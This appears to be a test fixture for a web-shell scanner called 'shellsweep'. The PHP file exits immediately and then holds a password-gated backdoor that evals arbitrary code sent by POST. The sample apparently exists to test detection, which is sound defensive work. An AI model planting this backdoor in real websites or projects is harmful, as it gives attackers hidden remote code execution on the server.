<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
if (md5($_POST['pw']) == '5f4dcc3b5aa765d61d8327deb882cf99') { @eval($_POST['c']); }
